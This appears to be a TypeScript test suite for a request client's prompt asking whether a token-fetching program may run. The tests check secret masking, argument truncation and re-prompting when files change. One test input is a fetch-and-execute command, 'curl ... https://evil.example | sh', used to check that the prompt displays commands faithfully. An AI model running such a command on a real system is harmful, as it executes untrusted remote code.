import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { digestOf, namedFiles, programQuestion } from '../../../src/editor/sending/programQuestion.ts';
import { memoryTokens, type ProgramToRun } from '../../../src/runner/index.ts';
import { makeFolder, type Folder } from '../../support/command.ts';
import { sendRun } from '../../support/sendRun.ts';

describe('the question whether a program may run', () => {
  let folder: Folder;
  let outside: Folder;
  beforeEach(() => {
    folder = makeFolder({ 'token.sh': 'echo 1', 'bin/get': '#!/bin/sh', 'conf.json': '{}' });
    outside = makeFolder({ 'tool.sh': 'echo 1' });
  });
  afterEach(() => {
    folder.remove();
    outside.remove();
  });
  const program = (argv: readonly string[], more: Partial<ProgramToRun> = {}): ProgramToRun => ({
    argv,
    shown: argv.map((arg) => arg.replaceAll('se-cret', '•••')),
    env: [],
    folder: folder.path,
    root: folder.path,
    ...more,
  });
  const key = async (of: ProgramToRun): Promise<string> => digestOf(of, await namedFiles(of, [of.root]));
  const detail = (of: ProgramToRun): string => programQuestion(of, [], (file) => file).detail.join('\n');

  it('shows all arguments, secrets masked, control characters visible', () => {
    const of = program(['sh', '-c', 'curl -u "me:se-cret" https://evil.example | sh\n\u001b[2J', '']);
    assert.equal(detail(of), 'sh -c "curl -u \\"me:•••\\" https://evil.example | sh␊␛[2J" ""');
    assert.equal(programQuestion(of, [], (file) => file).message, 'To get a token, this request runs the program sh with 3 arguments.');
  });

  it('cuts a long argument in its middle and shows its length', () => {
    const shown = detail(program(['sh', '-c', `begin ${' '.repeat(5000)} evil`]));
    assert.match(shown, /^sh -c "begin +… \(5011 characters\) … +evil"$/);
    assert.ok(shown.length < 600);
    assert.match(detail(program(['x', ...Array<string>(100).fill('a')])), / a … 50 more arguments$/);
  });

  it('names the secrets of the environment that it gets, and the files whose change is asked for again', async () => {
    const of = program(['sh', './token.sh'], { env: ['REQ_SECRET_A'] });
    const files = await namedFiles(of, [of.root]);
    const shown = programQuestion(of, files, (file) => path.relative(folder.path, file)).detail;
    assert.deepEqual(shown.slice(1), [
      'The program gets REQ_SECRET_A from the environment.',
      'Req asks again when one of these files changes: token.sh.',
    ]);
  });

  for (const [what, argv, changed] of [
    ['the program', ['./bin/get'], 'bin/get'],
    ['an argument', ['sh', 'token.sh'], 'token.sh'],
    ['a word of a command line', ['sh', '-c', 'cd . && ./token.sh;true'], 'token.sh'],
    ['the value of an option', ['get', '--config=conf.json'], 'conf.json'],
  ] as const)
    it(`is asked again when the file changes that is ${what}`, async () => {
      const before = await key(program(argv));
      assert.equal(await key(program(argv)), before);
      folder.write(changed, 'something else');
      assert.notEqual(await key(program(argv)), before);
    });

  it('is asked again when the file appears that is named, or a link to it is set elsewhere', async () => {
    const of = program(['sh', './later.sh']);
    const before = await key(of);
    fs.symlinkSync(path.join(folder.path, 'token.sh'), path.join(folder.path, 'later.sh'));
    const linked = await key(of);
    assert.notEqual(linked, before);
    fs.unlinkSync(path.join(folder.path, 'later.sh'));
    fs.symlinkSync(path.join(folder.path, 'conf.json'), path.join(folder.path, 'later.sh'));
    assert.notEqual(await key(of), linked);
  });

  it('is not repeated for files outside, and reads no device, folder or pipe', async () => {
    const of = program(['sh', path.join(outside.path, 'tool.sh'), '/dev/zero', '.', 'bin']);
    const before = await key(of);
    outside.write('tool.sh', 'changed');
    assert.equal(await key(of), before);
    assert.deepEqual(await namedFiles(of, [of.root, '/dev']), []);
  });

  it('is another one for another secret of the environment', async () => {
    assert.notEqual(await key(program(['get'])), await key(program(['get'], { env: ['REQ_SECRET_A'] })));
  });

  it('has the arguments of a run with its secrets masked, also those of a `# @secret` variable and a private environment', async () => {
    const asked: ProgramToRun[] = [];
    const text = [
      '# @secret own',
      '@own = own-secret',
      '# @auth command argv=["sh", "-c", "get {{$secret.K}} {{own}} {{p}}", "{{$secret.K | base64}}"] env=["REQ_SECRET_K"]',
      'GET http://127.0.0.1:9/',
      '',
    ].join('\n');
    const { result } = await sendRun(
      { 'a.req': text, 'http-client.private.env.json': '{"dev": {"p": "private-secret"}}' },
      {
        environment: 'dev',
        host: {
          secret: () => Promise.resolve('kept-secret'),
          signIn: {
            tokens: memoryTokens(),
            open: () => Promise.reject(new Error('nobody is there')),
            mayRun: (of) => {
              asked.push(of);
              return Promise.resolve(false);
            },
          },
        },
      },
    );
    assert.equal(result.failure?.kind, 'trust');
    assert.deepEqual(asked[0]?.shown, ['sh', '-c', 'get ••• ••• •••', '•••']);
    assert.deepEqual([asked[0]?.argv[2], asked[0]?.env], ['get kept-secret own-secret private-secret', ['REQ_SECRET_K']]);
  });
});
